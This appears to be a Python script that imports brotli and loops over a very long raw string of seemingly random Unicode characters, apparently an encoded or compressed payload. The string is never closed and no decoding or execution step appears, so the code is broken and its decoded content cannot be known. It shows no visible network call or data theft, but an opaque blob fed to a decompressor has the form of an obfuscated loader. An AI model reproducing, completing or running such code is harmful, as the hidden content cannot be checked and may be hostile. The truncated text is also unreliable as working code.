import brotli
n=a=0;b=1
for c in r'''@,>ƺn5F,Ll\4i}7BYs%3(zBO5ٷyZ/8u>OGrHGúMOƧjIģk9~s7a|'J9Uv۱˗qϗKͨ8_l>܃YBMje 5NW]x@ޓGLf¶#\^DԪ=;"N|<,SU/*(eǧ9oJ&@PUs^@էF/$B΍ǖJWB ɚ^W76fk<dDv?WlM,G$m(#3
ϹKLLGY[>"9Q59r4ik"ώ&
Ą)y!ѤN3ȧ}ʕBѰǎ؞ېBCXSYɈصL3TV>Pr!mvFȂ=DN<3QgL<.wK	ߑ2°W&h@͑my]٤G7XpЗҋ$y TNPޕo_(QK+TUf	^F{y:\ZZ_5-(F;"XjسþJ\HbOzb:&ݖGd՛ +!\..ڿoR|&m}7.˿ح:4.f085{hIHvpĚEAAp"-$,K<~Jȩ+/z؛u/ޜVJl΅l[Jm;9
Bdk	RZ\KfLlļ#(=m")`2B:D^U'lA89}y?n"Pj%K	!B]]psSΌc>0|JoIm:m$ގ
3KuR'd8@r6ئ{ؒ0I|"LHԘMھԣ8FE$~gBmIyYc5)+>NwSɔLy,n>itH`ߤ>Y:|)u*ByXQT:(`K(O7%ԵsMK"˛FNC&@-(OњO-ki:۟}	˗vL%o+StkK IYٻ\yd}YB_[Ctl#V8:pȐ@3_¬"&3ηS.DNTrX؜!шD_A3E1@̓rnY9Tri٨oDŭ`,\ӕaܱ	GcѸe^׈׭s.7)Gzq-N՟t֠ӝ,9߾SEOm`x*VķZ0=:Ti
LN۟':sU5o.Mt`v%qI	tVbmbp_>iov(i@ōvy[؋Pkw)Ƈe-3myju"%3:5P)
T1$6<y'˺kUyؖ\М2"wl߄}ɻ.P4üBY]BG
G"+dثTԣ$,
AK4}#"aq0aD*w}ɒњV&E}_h{j>]YLHk*:#xF2;F܀oXbl}Xt,l;I_49X:ȣ=Z 5rM'y%Jj"vV*4	?4ٸj;co&|{\qMt X<l:Jo'~4ǌ[:՟DG@#poTcKNR1:EASE
ئOF"{aqPPſN	|~*$-l[ʟyo$obSdGm~F	p*qh=c$#"|p"<3
L-4dէqtuɠ޸ў-b%ўK-x;HflոC%-W>ywnJMՔFmAܧTPoɌ"x5Έ'ۏ8ޡ$>:0_M:-ojVӶFs~]ٻ>vԌڻ*Vܑߛy ֧9Z1vmR<:h	>\̄=mJWJ,GL|dt+qCpޕn{˦G0ۙ!|OB\xCA~Etu@!_#nA!1Pʩy<̦s7*J`;h̚d"^+vhNMAeJ6ݽ%k\6|;\lځ!]zJPhy[nWaH&vƕN2+ew0|ټaNU^bѰ?%$;+k.ZvJ>AM ~0@_X<3nZhd ǜŜF#BW~Rd"q'{EQ j*)HCn}3v&!؀Ш\ڦ3i8ܵ݅EzB*ȟr/I݁?-0ػhfEQV2qF]ZGؾ#DGpZ*?:RYnH$1~$^ۚk LU	"ع (0T_ؑOܖG5֙.M<G`BS/0
V޽;>9wǌy͒SM3.!̇S.ѻna+ˠJ0!kmqCVX<^Jso)e^FR4o	`uQ?pP%ɸUtcGCDԵeC*==)]!"L[Afƛ݌E/ .B	D4 nFʉt5PUh4s٭S88ف'1nh:ҏK2GYp3ުfpсnṲj!O+9dk0ݸ@ay*MƯ:PYki+T3I^֡Rm[mcPZ;n@YEņ.3
&&*9N>$G6|_xk65#D|d)ҜxF1W:}N[>kU=wt?o&y
]=_BΊ	X.!J:y̧D<hވKDΖҀuȩWc})UU*Ytqi+ДvAϹ{kc>áO:ĪSqߙO	ȵMa*ד+ȩ{#HW׬U"ƌ(Kuiڠ*ŖOI0`Ts'e3i{)+Q,S}l֊M'l"5*9[;Noɇ.£<FIv/,dzďȱ7Wh?e%U[8N>$߿|đ5e)OYFi+XHVDm$\#OSD[u6y̙}4Ʋ\Ud÷j/|GQJq60Zq֊q,z	{]jҪ@+S|\p!#M7V{k.{ZwTCO"ScRӶ"]OfWe@	' XaS(oJTTreAkq$TgNmx>
E\^/$'0"(Ky6a&Ӓ""]޶%Z.cy8EZ8*7κ|Ү,c?tU[bhf`nvQj,"	%'Iѫ[f֚XZ#b~[$b5ɬ$<(~ܓ3*,Vs6<;&۪M`V+e	l}ZF3Q#2Z
>ȖЭ;5Pec̯цĐҢwzKJކ:$
b}HKQx\aп~`[՘ۉ91@2DHL}_;NtGm[87},BgA֟L B:sF:U+ϷIsl>W7|JG u`B!wY5*oV
Tߺ34Il^K^צ+,'_aR=-7:ڝڽpV.n׭7n_e0ӞQ)m2[qG@{DEm|)OkgRD*ĳ@ȶPvT$-9wDhXrZZ݊*y(9|&vD7_L'	oFW,9Cϥ'sf	%ĉ]`DHc6RJ0*e1A|6_˧NOCۣ:zݘ4qo}ڤ[݁m`/Wb~kǽfBDsh
]7xmƄJ5̲ܵ0</H'ȢZ7BJ'Dyg\T|){x`'к h9=JZa:;@<QZkQǅЉeJr
{U5XBĖIGҿg9`t}î)$*(8!qD	j,<q;,W9PVIk|!tN&#0Q{dHmntq*)0*lu~SN_͢%Zz$P(ϑ"'1BngD\ZbVJŒ[ߟ]\Í[n$g`Q+HbŞ6ƲR
Ϥh8>/ݰpVӾH\Uw~4^9Z\6Cn!O@GF`ָ8Y~ȳRAbS(Y
,OD
twWx|OʆQk\݀!!m&D*DW4G(,oMlt[G$jǅ~(0g#XqͭL&ߨ'2ρLu3k2q\X[?=%ݰ7b*ϮYSs'ˁdD܊PrХ~y`-ta'չVuWŖoaЙM#lM#"R6]~;!ù%;5{w97.tfT
n۸oT"c?wZ,.
+<v[_Z|3ԭ0u`-+^Բ7̦@sׅg"]|G3QЈ5 M>߯R9	Vi0USfΡ'{d.o(V܋TA߂ʊaFL˲c{"])Fm	,E#QÇO2/Ĵα{BɢYRnZ@3wH,wa@hI2,nBO'?̭w[by2o}$J;`Pqx<Ӱ6WǄۨ,aD `uDe}(BnNԔtGkWzGײ*8b]͜zj!4kOŀ-}|>:W`hg	ǜ>	6VMΔO#:2Oa=/4e?gWWTxζ\o,ם|7@oTD׈DbɋҼM*TRuT1euLS+>]WX]eG@bϱϻY.k"WSY6AH>Ӻk/f{*͛t@DiOx,eЌ;ۤdq};mz53IkE7fTAY}<AWg6r5HN³چC=V6Hq,7رtB_kq<P(f<%C>|HܨҮ26-f"!V<lBAdN5O{w;X0x.%c!?[&W$yA%h(sڄakYev-~<G2{x;[߶Lsн@ӫe5F1+A&׶ԟV<4PSٙmc=׶q(˨^	J-2;i?IG+YK&]#A2d?5_OsC/.<b	8ڒ<ETYZZW9xx^IngSd&|!+E,+1n̴'9զoMeaĈ8T8%UOB0pAR%͜(3;$TbQf&Z?^XCK31י~UR93Iu-=L!x3
5ds}('y׳2%l	F	`8c]ȟraBzJ1BKP0h=Ae>7iȊy59=}bu<!ʩ"|rhX[<̟JM_UX)F{Lyvf>׬i>0deԬ\M|2OX>Ra4w?rC}yӟ,,&Nհrο;. ǥCɡ;s^C^bA	Nx"J|JRy?x_qj/[HT9!-޼(JԴҼ?ANH6Y\]C4x=pqTVak/>pFkcǥI6`YIxymRe$F,#cnsy63>uu;_;iG#
K:\$a<
1`ږ&LĚVWA0ȑ7c}@>M`-geטd`2pa?-j0bhO;Ӡi<[f>GExÑw;rL^qYΣ<RCښ'NOMc]۫;|E= j
ոIHIrNx'4|ͳm@ԇӨW{Z?:m-#с߫j/mDCr)܇w W{'ۭORJUN+Oې48$~soԃđ6>^{Sݤ./ߴNGlQ?:'KP6;0ׄ|4gۆzh1Ł}nl^rT|BO~x:!7y%¸b/ƻb6O-SUS0y2Z6"czp#_yB$h':jwWV<;t+"oa\Tw,0$6јC_rT|̆g9iY4vӎ>܎ҌOMC\/.ي@fI6֑0`[6opV_٘u/4!t5_!B8h!+szS2R2nb0{$?MȦ~\s¿}EabcƷp$-RHzVB0g0%
ARnn(ؔsg̈@j9Zth<cn-reމ4N[c ;a(@΀COgJeLG$Ơx؂-UTk;?1M9H)+]%Qܖs"yf;k@̎ay{3mnOZdD;6۫"m%ԼƉ 0'̓=rоJɐ@CP2eЁIo\.߃n@VZG]mDɠؾx1ȣz-Gӄe&ttLUiD	F̈́hS
ـ:-dƉ@QvQ̧n	oj# \Ԁ9oKV]?MW jЏBiŲԎ	;y>b#cgϡeEbd`R޽yՄ	OcxIIޑ}>y
v^եd?̤ê^wg
ӉˤmRbp3c޺ۂ:C(p#mwױgz*R-D8ҳ.4&Odeme&ݪKȐ1mccřCߝߚKC]D6q4q)DjQOjު0&?7`JDXͷ<;T{ d}	ץo`Yuԝt @̩]S׶9LKNydĹK^(vh#(Kax"1-1zl^@J6FN1y3dJ#	)3ϧͤȮ(۬N65O00åw̹~A.Hmi[ZɛseZ/@]~;YҚ5"܁tآdky vF߇UtSm1&3!haLM`G[CŬ=IYw}4aܤ<XS5)	hKnhZ
d_Kt'D7;u[ p'7/E`϶f:X<ǈ}Ԫ,b[$Ņlt̴nN7vh1E]ħHq]&"qY|x{5	uE7}(j>LW'vmdڲ1o1.?n}E}gDqW~8TYxR)"ig@RT7>Z.~l٘C+-؀ـnH+5
97|QgQ}dSƟMؗ J
EV(=nc_:)
n}9D<Ǧ7#` d@1/dL#ՉƱ9V=-{ΰ\yrgN8!v	ȯLusME[ ԦF G[٩ۨԙ]n0fs*V|
	G\s]h؈ƹS߶/X;Om(tf=,Qۂǂ(*OpÈGoc{{юvv7no2(mmA]2VnG5HG<n~ڐ`ܗm9'͈{ݎ*%j\p: s`Fζ̴)
L`3jq֋p:+˛Nht(:\ۋMMy/==ܾ3dY!dӢʜ(<`sn<mi>ρ٘(1ӸjlŶҧH3@e!rx:Ӆ3u"%0Ԇ&r2Pޭ	
x1|Q._<nQ1AT<F>)?ݽR:5.*wF:݊m\uZTi؊d>͈%dxȢ̏hXΏxc;&ժJΛTQ;ƃ{p#Gam='}{=_GSs/"ˋ%kJ7ϊ|S V5BRnڋB;ޮ=rܗeƍ̦^slX<._d$,TkX Q[x]j́#_CP̫!-n*ws217t_Cdn@o;̦.WT<DZC@Ȥϡ*B"oTjWhsuB@ߤMIӓ cnb0xV:_WRWݷZǶ~AX1ܽw/zFR}rcbτ\ͷ=
DzWm }?LV?=@mN|n/mj$&yI+o2P%R<^=#Tpam:wQECHp$$_sxs'aNIjįwZ.wLdʄ.}({ͻ?ݲ6)'6А̯b|˷ː%	|IҐkܞ,̗1?0@4<E~@(l"tw/
l0V&=)sg ҙ/Z,q	z1[itƕԏ^/SHNS;~ɒ%bݿǀծRt#<IEժQXДS]fGR1*;ģZ9(Tؔ	ACWT]B-Ȋ+k~R҄V}sc3(vJ`m:t%pk6SZũbߌtnL$ϮkwC"I߸;w?+PE[Hۤ	H|Kfkj<nj՘a[!E@F&MFwqOKUnۇkqg.
!@Tm{]0b*(ïFP4M3M <!ΐeaOߙG=rb́	)6=^1TRĻVOP23xh&_NuYtqkfN(s?s>EmH?WFX[`˚֬,]I%Fz<Ld+1R<Р1dfhW&Łg(hcZxDűԄ܃2Ph'\Y?6]tve>L@ݸfnyѬNˆ8
^ښ]c
fh\ے\]a:*AhYzyƩqk2sά).9?1^?)zz+9{-8tnc&.;vAM0_.'ѓ"{Ih,NzEh{KBJh&q&l%ҧ]%LSGZ Wk_͗SV],"5B@ıppSѢX̂^x@.%*BTs2B*4Xu=Ҏg!%՟׹eX1	ِF l=ѵG^aP]86mX:2&'A9b1L5JbvșJ#C/m9B9dת2XTi?b0}s^3!:Cw8'!YkI-e;_j]ϿШ7sn_k9k\2!x01@AތTݽ˹}IVLߚDnW'OeqV N$LÆk#8\?LЌ_u3GYߒ}ВZ ó1bF]ؗO[5WcJ߼%Xgg]}ZO-я}i(E).u¤qLSFdΫx$Hl3.Rzk̎cmy;~ζ#KՃU^ǺL}6{.Xq~qGX͆nT7m\.qUnϩвGաh6}EA1P&WU)(zRǒ!!J*!x.t9[N0%YMG(|5f:k}_(8:czs.oS*+M`ќ!zrS?icadEL̩`AZ1F٧oh4TSJoUP MQӆRm7GkyrҐs.~1s.5qyeӪ9.zhڛ.f,s>tEƅ,úvށ}"*l,oFB(0@8MTŊɥYы؇'r/5o)#..@
:0htAD?`_*&ƎHsߋ.2{ƝW'x`OQQ)|Q']T-CQg@N\t`Q͒)U]}u(DmL'U:^	-\4޲pC}(OXu<WB
 4V~m0Y$lE`|::óA٪s0EI7Ed٧ېMYSÄ*R܇.
+Eי$pXbۨ_St>|R2/f=wdo#q3Ԧh<(;aݸ03\CE6ɐ5LřkP~K--WGTGS&UWF:|P{Rd=w>%PP1ԘRL3L	_ع;W3Hi9JUG͜cYWR[A4PN6-cuq*4S9Ͳm<~{yɀ!O'cD"^p/9+cGWtx ŵPv?uͷv|Cge{n_	B R߽pi't@o}%SG[ݗgAXxW%'Hev¹S-)ڨV^x!JMhצb~PK0X5	<>{{~[[ÿ3|}Ӏ9˖9ʘoUd`%.]?Sa\$YʙFȘ3̻q|Z<ӧ?}]d<?~ΖfXi(aT:F&=qlPݪoF@`?nq7M}¤(D͗QۅnM]WSӇ6z>4ڻf`rtկ7.iڝ'lbyєK> %׼հ]m]Mfͳ0/mgf`NqIfe'!6|j:;	h^=u"sFUB>15
gLĈV}f&_!fO|G4_S?ٷ<ľ,DФ99aiO5Ԓ?Oݽ"?V= Л{ցؾ6;fS^pƘc Bbc'1v։Uǂrh
Uҟ3^LQw}Uz`y^@BƯ6uH[͎XU{?:4w .03Lee&qsh ,qL>>NĤo!`Y^`o"nBhH`9вrܕQN<UHfyȪ/Т#< 9uXySވܚ#YYZ&7ЄBXfʃ	/׬-ux٣F*N3U}T̪|;f5|\ׯ;.&w$ϨƴԙZߦɞv0A=%)9jf֛bmi߅Hô=CNGY$Ac݈0Nd,\\޾1nCgIk*o9oN=](|^4iTYJ<7ߨع`5%Wj+߫uvHW6}^Z6gzG5=J_;#2<|8Y}%0FG۷\Na$5fyj}eeAER?|κn'u]R~'ȈD.]p,"vǞ1M̐4SfOql]'Nw*G-laÒ^sΐ&5JǤ~4`Xhi5(u
d|ʂx<A֨B{/߶
TK!#" Oѷa$m*/eU	}ÕZ9a}P{SCY`B&!_ׅQ`dk'7ҤR6sCn5ϧ+K)LR>]?1HH_~4HuJDFU$6G(`pOLhq,Q<"lɱ+rIzpjWЩ=zK&=.EqG?3&
\{p`	{܈s
nh`D63fDSyCH5KD?~64=JgÄ:~ɚ6Dѷ[ҫ`vܫvDԬ6/cKD>]ǉJy#i^<YqI#bylJ"CaX~|;(upSɢѫh{РZ*5Z1^smkt0@N_(0qCRտmulWg1ݡƁX%_iq[ԁp&.5{ýfHi<%6y'%ȣ|7zz'r0?V96=Qjq6<_ͫ:Ȩ	3fYҤj97	-*Ḇ~Zlc`f$N2@[@5V#~"AS)nj5W61FlǸ͖sxb)įhg\`ԖgV^>\ؚNU^7_9Ȣ0p|Ț+œ:@hToV
ױjkڻpo܊@ooХ4-NkשԛTrWPb#}t\VK	6yg`3dS͊\S(ߔ?$[he4k	M˛P*ϹH^4٘٢?eaO"Jͷ7.y "$%
ەuZAT5jE@TA*ilΡL5͋FƏܒ˫g8¨tۂ0m$w+9ג,tSc(6K)KSγzڈuO^wʃ\
V{Vw/Nޗ:f?7G4q)o4ky \Ǯ(&wԯ+`9Z~J3Cļ=nRGҕѮ9Xdxޤ^Bu1
CˁODQ/|qIFx*FnfhPr4zQtTpN0z[+>Rcҭ- awnd~gQ.6H^18mb^4VK|fdoLl[F5Ө܂W<4
D	1]exZttc]W"flncx	׀E;piΤ*`ΨwFjC5tv.mF	v|IX's^svTל[#݂z*%Z1_.p5[o'ǧB*є̨)A,bżV`{Iՙ@Ϊ/_`s|6([Z?x'GV;&P>2rèَIsf8E!uءYda2n"liQKBA@zݨlۢeDߵ6n=eSqeY|;YzGi~ҧu|t!
fm9̌LK+h8jٷHGpĬƞq_0w?#g %ɦtK0pO6pѲҥayÃW/m܊}d6llV>"XAđeu7LS-$x3CUA`Џ;˳ښ*%l*B&OJeUuSLBG@]0P\ZgeЉݵ,ҬAh,5SېMy;Q8g f/^əFLt^% 
=ɥ=Kz	ƼÝRJ7!D2K+MiXEVA",<ӒE'&+pň5pN(?l8<ө&^ωw?L=OYh>G|Xqa+΄$Vҋ{͠>;Z!ؤ/_½QrmY}]eF׈j@6$mtCO¯ͯ$V۬ej"Rfքǲ^´G\
qF$\wt4Ĝ{p
J	`KYsroΞ[%KϮdթ9sVzeLZ.Ұ+hݍZ)قAH`[Z23=e2H.Q~ad9H`ˋk2re]Q>ʸX#Ծ"AmP'8$ޞ\QzQh6	8qr#Ҍ4{c'e<Bo@ڗѾTNp{cKUh8f\ۧ̿x8{JckW
::<Z+ԙK.<x,#Eks6c6|̝"g"U&PB8۫fw3=c5'!T!u@` AίewxlSguoݵKڧCn$\UL;Q{4@plz+ENs&n3:Ɲ<[`-9S}AȨKԖpAȴυЈ)	Qĩ(ܟx.2ǸPEP4hPm.Boj@߾=VA4ȵ@+'Xz̰d4(1G'"ސ%ji¦:g;lW(7Z_r;
 @gLFg$¦¬(bw`	Ģa$2!Vm&hĎV{Mol	Ys#[w6\9ͽf]"\I@C]Xso@	-4Цf3jK֪=Xw(~[s|:ym[OBxW¤3Єr?=͟hhZׂ_?߉֏6"nmp-CoŽtjǘlʀ`xPh/LOLf\^s9qp:ovɄRC\ϿU4gMҨpkl{<G$D8^eͭKɡ̵[E"D6.uRUq}D$.%VXorй<?YV6{:GT,1qirBeaͥ"]85PŅo{-i%-Vܸ^i۬35wFW(VxSAÝ6xzHe	pʤLώnf239]!)(d(Lܖyj^'Uk6!|ƗHҞeHЅHkYƿ¤רI"WSCvWiEN>ňnyQ5Z;5lMQJG(t<CED 5'>Ϝ$h@w&Jڠs2:E08&S4,&_)@OmNΤ!n
dx%x-G:	+ʄgjǑ6ls-7`HA<eE:QKOҬc~+y&\٭j=۫7K<֐Z!iH=Х>)-!MLn*bŅB<pE,eޅNÔh"Ak7̗ R*Jtł0.X$]|Ѧ^HbngNF{LigD|268y9N;o2:- =mlpRMLhcRr+dį{}*012͓(nH.M#ՋPpˆ,lK>!%źO`Fk_"YYS܃'˦lx^ݏw?=-Û9zdDt%NǠr1DSܢ3N 
կ:v':1̳F#Lb&̯%}* kkfe~ēr,LF9ϮN,-8-V (լ6
_* ̩-aT+Kw-tPruhd77N![ih-]|}UX[%qr3ECgBmZMX?mWЀPxZ/YrA~2(1g<V/lkjDθV`tڂe[`es7M[q'S#K4_׭Ą74pW-Gշ'-BPU=ǉITBQ.y
V=Aw.A5hlҜ>ĶT)PVn#qʹ?xAvtyxu4#m7"M>̜,#-БKٹa5'8m4e1k!CHU.$[h;;K Øwhdgfx	|U=Y]-_)C
(/Sx+kВGvqԟi-?M(Se_ėEbx2MDmHFŔL@S'3Kk$hGVjKʯks`}em|N-1Zwud=7Ν&PӈԜIǠ|v'̵̴|Iߐ_ֶxiXPKD!1RE %OѷCPf<QŌ%~$NgV|<eڦVøE/f:5tl~~5%syƥ<?/2n%>>bbx j7Hў>cJJc+_}'co)jJUA6g0Q8)!V*tp:	3|boIM-Q4^W,i7e:nNߗw"<,}eCK*0eg
 ѱ'Faݎ'pǶ>9g34TOÑФY"t=Nә=4|&Uʬ߉,JڦP>D$E2%8`;ӮKucAWR^ӼpϮi*rYvH9֎G!Q.(t{^ԍIF;F&-7ڂg<yBA>ҚSܵnb:߹
٭Uf#H4ʑQGҵf-ʑHg)%_	U*[Z\r>)ICQEӡ$	QSE9$CI&yEܹ|_Yq'ZEr(Nʶ	&0o79O+o` 1f67%O@ooz5\XCܞtP,E0-PZ<O1BΠ)fFqO~0[I'(7U&ŅlύޛɮwʅBX.kGIsՅϹH?AuâEAFٸi)-[Ѳt5^wK*hցף7MсTs^&̺ D4wD|atlT^t\`E˸ľz#bڤQR{YZ#R͍;nʡ0t=Di2Rntè:^V8Bbr-=/ܕ$goZl#dY:E˝]y]OǴ)th>vĉ߲Ԃ6={%͇MNsu[v$,ـ#(ڏW:(fz:i^O m^%(4V=E.H`K]!nŅܢZjcEn+;SڡdܾߥxAoK|j%!rIDimM	BHߌnŗN֍ݏW$q+jy\[{:CYCq;֤s-ǲndj<V2y@m_x<PQaO"2H`	Wr	/l[zgwxaT"/JNԔc4eZlHP׶G8.tV13lۊҵJ$}_X_	pPTL	̓}%49~QZ[>,Qw)bGi[@FrļE!
[]KZGgL
(J)vɧ]Of*Cـ9]qj#du;wƂQV׀M(pKnZmJY""SD	V~3zwRgDkG;Q*4ts^|œe)ɣ2aZ6.D`qVmy"CWe*̝^v
<1P+EP׾NL^;[o&ݕ1'e6-;SFupyߏ?	oRNsWx$Wjj<$dA}?{".3A?x٬W6tqmzgJ!(z,`IP+hб~[ҙ2+ss)EpMi՞Ue,0=H^mn8&߇xҨy@6=ۈ/d*n:Az%9	EQ0dӸNbJ֓</ڀ['u'#0:юƦjǋ_Rg(*{m
I-K}6$.	˾!чĮ@M9{ߨ,E2˽}d٠%2OQgRycޕ`߿"D]QB~Mw-T,Ү,$5[nޛ)WW.XAlg{Se#cέ$nIzڠ\H<ʇLMvݹ*-5py|Dnفūa/;JڰHuHOzMlyݔèJ{y~c=J:|NsTu8ATޙzpNu3%YQ|Y]h@rK1D=AMCzʲ.x Jm
Ϯ[1c&+٧ 4AR?w]`5g6Tѭ͛ˬ$ˇc&k0^z$D^ل2 ܾ5C="cCVQaYlHoٟ9ow_M?T2"%#Gr.l?
,Vɡd:0B4jbC1_d:]h8fVޢ3$MF7B?D/6}zti'\	y2iʲ(074+?SV-āI{ҏ##$<VŽS	Kƭ2exЋή/(6C8b7̈9o)**͉{Β-T:0r%Qِf H̋4	8i)z-AӮ,
#&)ȨFL4y_^V3C'F֥Њ4@pҁ|SF
Σ(ǝw/MͨL6iC=3c):YyBȏzaɶ\@0ao̧+k9ٰɪd7lћ%̴W8/XrDҼѿ,bt=׭Yk#VڊZ-VоMcD*zVG])E^F(",~{%)ƾ|07 x5oz2`=6?_G(cݾ!][}oȴ{,$5vgƥ?!ǉf=mʭ([Xܕmj;ˇ҆deDVLV`ƥ#(W#wFDA]rE #V&/8dҫ{3@|סnqtqūѮ(7cD!yWW\rJy]ݟV͂+(ViNV؃hҘ)MγkbGZD|ғ߀ZTQ/9S߹|e{ay/Z
֡2T!&l4u*ӈY>cjLi>ΧgtTx9d+#`t;(r[&rrJAH-NHwhp5Ņ:xض'm44Rwsڗ1a:upV΋[])}iՋ*dYrZ
mi6`N~6)΄к
tpOs!6 [VDUGQeYa#xnKVZFZ]PKa6̀˭%*rB=,r;؍ZY*,&S#+;z֋ۉC(ؓAIgU/Z>Gn>kՖ)ūK8s˃?dQ˟~ZIB|:`ZM19Җ:dۨ{t2HF_%'dv@Ҥޱ? #izǸшN\$Eep_clY`̒{ͯp?df͈{9a0j2Ŝq]b(ģv7sq"|ru4{ѐa U7|ԴˀVgD3=xD5 -ʯySX{4>ݡw:"͐6XSv^QSBȮOnZ^w)e{_͈ēK+b)#0gӔeԮs dCcc=5ݔС X'؈q#1S0jLJis4ҙU~N#$4>17uT5g+7m h^g1p72S_ˏm̬9x[?^,,͉6AM3ρhX%*"=E]a׈ɵ~zy8iar3|<F9>[	ʟD}H@-ޭG}%3xnŗմLҮC)Dh	_:E4YsI-Ksg>$N-k@hE8%Ё xަ*auďر=H$R	['f
02 pi\Hn#/lg1<c.;1ĝodXuM^Yi+{Ë-mU%w  R.RzlB>x1É?1cjs^#J7G x&]?- jtFONW\>YVO(%/GeHQyݸծ\s?Hzv<]ͣвd#Nnz8 rKa@:EEYZf	Jޞ}Hbw`iB͈^`YiCքG/.Gr+[ɹ*Q* +Y
E-MOM1 Tӡ%$޸xywJPEM\lF~5GoMKοڢݮ[L "px#=58dU#t5J.gͷ(8;uO,҃~|Ϩۢ	I-0ȵaoΆ)m"4"WoQm;2atj\ptҏP*pNۅXˑ4 }&2}dܖ%WXjz1YӚIIS3r't=CQbe%G	#ʔbʞy|r,pNΩO]DR
ĝM2Kkݡٜ/^|4sBzv	v5ӷ!uCߣyJ-YBԝ	ii²[iA5v۬nd7
5-a>Ɠ4'4ɏcT#ӵ-pߌmf&C":C!s
*X]mNגs~E1λ!r'	NShNtHeJ8(J̲tz,a\"+S{Q}U#QTV6nf	֓Г=O)b %VǱYo'.d">rOv?]0Y]3ђʖy_)NI\@hrp23Pi26Ӷ^YL!u:JOؠϢywP)L	ڜ&NikQ>*|oRx{p"&aڶC"Q+b==ӯِ?M'C;ͱЫŖ	68#%,i?`le[
rl1ˤɐ0
-X23@
)1Npͷ\#VkEQc LVqƩq$o#\>"߷71dA.J\90$Hy
ˁx[3C-֛>R^lψ8k!}C{iOZmA3PECKHa~iCxAU?s/,R!|JA]΀InCRZ6Ph6WZx>WȮk4ML	үB3	ɕ0
EEc3;o-*)nǓṪlő	6sOǥn]c$r=ZclɄD0<?TԆQBT	sMokG"UY'Ѯ_Tǁ]6äV	eX|õZ߭MyqN)1oj.?iv=]ЇSwϕkjcV2ٳ9g*<Y#k,TuK:tcܔ#4`I0etL_<v+@?ƹɪfwljdW5܄Cr2.ށ[o08{gʡJ|mMw694ӷ	si~pՒt}_π^s!v`7)ux&қJ43\XINNeŇyILZõ!OΡåAzd2\c0~}Uu̓>Bp{)aj>a!ڀҷ=2d~/H]k4u/7JX2Űa l4@զ'e~^Qoj0ů)1gĠDRRS,_;ΧU9CV
Lb	[.4$xGD/fP6hǫĨ÷a}J	|'{ksĺviP8'D*æWeL?֗5$Gz^uRǦt̤(ʖI|C"̀:x}RtE<ҕ,ګ=ji@$,	7&ruo%1]3woXtKݒ`ESԀ ',iEҵX½+{o)بʄcZ\]CCÙID5;T֚QǴ[`ƟpWq־؀#|RA5y8|/DFH!֡oW?%:vLCc`}Rrtb72ڵ4;ڳ\|zͿj<5F;#ޱeJs{Ha:&"wۢdRbe6arlpN1
E1UoPTȦq KۏݩE/x?,>gKf^3@Op;H"~]ȽknYܙwѭ+xQ5jB(ͨe0[{ݪO_/pCPuluMvWfx=lDu-nx$բ]K>̨'nHmGDM?	ilslϜhѮ27j`֗}q"jcSNym8x=%G+A,k߀Tr2_e4$wi<iE;ܚWs?z̣͘4z?pP)mAWQKDnmMZ
	4}YEJem&ј܉6lc|  ͇;`SM$=v#)c@N?ȥAyԵ,@j¨!Ddʵc&^Sl_<ζ7cÔ`#KO*e'i?n&ǆW6x2Shs%KJK?Qu*SGK1?}DD2_&܂,iJh6D3bwXbs+!1?	mwѻMsR1F}3iLyB-d/i|sg)G*`5K!ޱM7J;AI80noä`l[P5RCѻHwmѷ'28m&aM*Ӧזp6^k8}aw_jiWx	7yR:\~Yp[Mgvuݶ $X	>GzZzYI3j3e9MNDԅxw(H:)Pw<qrxoɄ,8!ϤCiʂ4۪.yĒ3pYܨAκxvxޱbnR!-RΆ=˳8B=08|9#Źn`gۖQVp)=pV,9l/	;&>3|/V]݋!"SeNNT0ҤkK
(,=t:nFd]WǌYGEv}u+HMR(?Eώ|plLDeÔ^}=Ѻf?çިk5޺0ɄXRwsKơ gZ,\c,xSY߂ݳr̞U@O7>Hsaٿ=yJ6}D !/;2U5%\}۾.?{Wmy^Dϲð8$t\הɦ=>ֲͱi4kZtLY1Kp&{lؿӔ>5>bSo9Xt0etNN΁c٬G ?č#W9&(m^e$pGMۭH2UeϝsGhyrN.5i
y߳ґvD\;rm5(L/Rԩ,	L8R&W6yơx7>(;Yx1$k׎YRǊleRm-I/D-Hh#?$CoSbz-qmìTeA,a:By=ӤMӴ(ba^S'վ@<8=<O
(3PJw6ݫhzǘO'	8[*r{֚i-`ݩEJjEWj)җ|tS{4qoDַuu/Mt҃8enrҖVtѫ"[+V<pǧJacx&1>m`KJWJ,04!ΐ
9)kMbI׹W/ʻ$Rw4RlwJa2RiD{D9*`z*Ϳ8>ĭYVU<`` x|ibܧĿrgW3&8S03\(űͱAObMǼ9ޏدޖ,}N-30#RU2XN`MwfDjQQ+7oxՂ"1ц~Ve{,AkGFa2c,ٔџՇ*xvG*N_nDԒ!at,5lNYnGTa{w^$<'/ɝ)2Yz8O
|$mzfXSkV¿Uųk&uZv'csn5VԹ$Pgn"ΉY{h ,ds'r m||&Υi'~}*j3iƉ7y5'Vp-ܭ!")ɪlu
*v1$lc{]7F0"̢`uD>
+VY';LԸzRi=|Ш7P3%@d~&|-_h%m 0߇8_NG%#9,χ Ӝfeg09Q71/O$:\ۼXJeX8B?@_z_0G;@vѧ4&??RPkUa<Ԩh\L}V:zƲb&S (t.%0SO ~(S?Og3Dr̍EMlTBJ"=<"lrĲ&r«|H{Ȅ' ثť6YeOQ kBcyHK'N[\k=SNѸְypq -N`LZ.ǀCSPݞ`|v5LV29rڈ6:o@`%64 mĥEd٠% C91&ovvRxщyE7R?)S-;͝6o6Jfqnė);hGCݕ5 \FB@u#t:YUVt4ژ2<<Ȧ^y\=y,?pγ<:ĩKxޏ6 t
n֩iSΪ6;yba)"z@S'oguʵ	NM̃yp^}sttIyߑvyZ?W)*)WSIc۴yE,ZCѯљcjαݝ4=-L&	r7d%si۰û2oVǔS$^+7O\ыHM96$nCPK$	3<%cB`D
